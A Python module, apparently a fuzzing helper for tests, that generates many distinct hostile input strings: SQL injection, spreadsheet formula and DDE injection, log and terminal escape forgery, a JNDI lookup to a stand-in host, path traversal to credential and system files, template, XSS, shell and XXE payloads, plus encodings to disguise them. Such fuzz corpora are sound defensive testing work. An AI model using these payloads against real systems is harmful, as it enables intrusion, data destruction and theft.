"""Texts that attack what reads them: SQL, spreadsheets, logs and terminals, paths, templates; many, each different."""

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

QUERIES = (
    "'; DROP TABLE record; --",
    '" OR 1=1 --',
    "x'); DELETE FROM identifier; --",
    "1; ATTACH '/tmp/x' AS y",
    "%'",
    "a\\",
    "' OR '1'='1",
    "admin'--",
    "' UNION SELECT sql FROM sqlite_master --",
    "1' AND SLEEP(5)#",
    "'; PRAGMA writable_schema=1; --",
    '") OR (""="',
    "1 OR 1=1",
    "' OR ''='",
    "'||(SELECT value FROM identifier LIMIT 1)||'",
    "\\'; UPDATE contact SET action='x'; --",
    "'; VACUUM INTO '/tmp/x'; --",
    "' AND 1=CAST((SELECT count(*) FROM record) AS TEXT) --",
    "'; SELECT load_extension('x'); --",
    "` OR 1=1 --",
    "1) UNION ALL SELECT NULL,NULL,NULL --",
    "' AND RANDOMBLOB(1000000000) --",
    "?1",
    ":name",
    "$1",
    "'; COPY record TO '/tmp/x'; --",
    "' OR read_csv('/etc/passwd') --",
    "{$gt: ''}",
    "*)(uid=*))(|(uid=*",
)
CELLS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","y")',
    "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML("http://x.example/?v="&A1,"//a")',
    "@A1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"x")',
    ";=1+1",
    ",=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\n=1+1",
    " =1+1",
    "%0A=1+1",
    "=A1\t=B1",
)
LINES = (
    "a\nERROR forged line",
    "a\r\n127.0.0.1 forged",
    "\x1b[31mforged",
    "a\u2028forged",
    "\x85forged",
    "a\u2029forged",
    "a\x0bforged",
    "a\x0cforged",
    "\x1b]0;forged\x07",
    "a\rforged",
    "a\x00\nforged",
    "%0d%0aforged: 1",
    "a\r\n\r\nHTTP/1.1 200 forged",
    "\u202eforged",
    '","level":"forged',
    "${jndi:ldap://x.example/forged}",
    "a\x1c\x1d\x1eforged",
    "\x08\x08\x08\x08forged",
)
PATHS = (
    "../../etc/passwd",
    "..%2f..%2fetc",
    "%2e%2e/",
    "a\x00b",
    "․․/",
    "..\\..\\",
    "/etc/passwd",
    "~root",
    "C:\\x",
    "file:///etc/passwd",
    "....//....//etc",
    "..;/",
    "\\\\host\\share",
    "/proc/self/environ",
    "%252e%252e%252f",
    "..%c0%af",
    ".git/config",
    "nul",
    "a/../../b",
    "home/ledger.db",
)
OTHERS = (
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "%s%s%s%n",
    "{0.__class__}",
    "__proto__",
    "constructor",
    "!!python/object:os.system",
)
FRAGMENTS = (*QUERIES, *CELLS, *LINES, *PATHS, *OTHERS)


def _wide(text: str) -> str:
    """The letters that look the same to whoever normalises them (NFKC)."""
    return "".join(chr(ord(each) + 0xFEE0) if "!" <= each <= "~" else each for each in text)


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.swapcase,
    _wide,
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.encode().hex(),
    lambda text: "".join(f"&#{ord(each)};" for each in text[:40]),
    lambda text: text.encode("unicode_escape").decode(),
    lambda text: text.replace("'", "''"),
    lambda text: text.replace("'", "\u2019"),
    lambda text: "\ufeff" + text,
)
"""As what an attack may come, so that one look for it is not enough."""
PLACES: tuple[Callable[[str], str], ...] = (
    str,
    "ada{}".format,
    "{}ada".format,
    "ada {} ada".format,
    "'{}".format,
    '"{}"'.format,
    "{} --".format,
)
"""Where in a text an attack may stand."""


def _different() -> Iterator[str]:
    """Every attack plain and at the beginning first, then in ever more disguises."""
    for place, disguise in product(PLACES, DISGUISES):
        yield from (place(disguise(fragment)) for fragment in FRAGMENTS)


def payloads(n: int) -> list[str]:
    """So many attacks, no two alike and none longer than a name may be, spread over every kind, disguise and place."""
    every = [each for each in dict.fromkeys(_different()) if len(each) <= 128]
    return [every[place * len(every) // n] for place in range(n)]
